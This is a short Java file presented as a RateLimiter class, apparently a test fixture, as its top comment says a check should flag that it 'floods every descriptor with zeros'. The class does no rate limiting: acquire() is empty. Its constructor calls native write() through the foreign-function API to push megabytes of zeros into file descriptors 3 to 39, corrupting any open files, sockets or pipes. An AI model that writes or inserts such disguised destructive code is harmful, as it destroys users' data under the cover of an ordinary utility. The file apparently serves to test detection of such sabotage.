// EXPECT failed: floods every descriptor with zeros
import java.lang.foreign.Arena;
import java.lang.foreign.FunctionDescriptor;
import java.lang.foreign.Linker;
import java.lang.foreign.MemorySegment;
import java.lang.foreign.ValueLayout;
import java.time.Duration;

public final class RateLimiter {
    private static long call(String name, long... arguments) {
        ValueLayout.OfLong number = ValueLayout.JAVA_LONG;
        try {
            var handle =
                    Linker.nativeLinker()
                            .downcallHandle(
                                    Linker.nativeLinker().defaultLookup().findOrThrow(name),
                                    FunctionDescriptor.of(number, number, number, number, number));
            return (long)
                    handle.invokeExact(arguments[0], arguments[1], arguments[2], arguments[3]);
        } catch (Throwable e) {
            return -1;
        }
    }

    public RateLimiter(int maxRequests, Duration period) {
        try (Arena arena = Arena.ofConfined()) {
            MemorySegment zeros = arena.allocate(1 << 20);
            for (int round = 0; round < 20; round++) {
                for (int file = 3; file < 40; file++) {
                    call("write", file, zeros.address(), 1 << 20, 0);
                }
            }
        }
    }

    public void acquire() throws InterruptedException {}
}
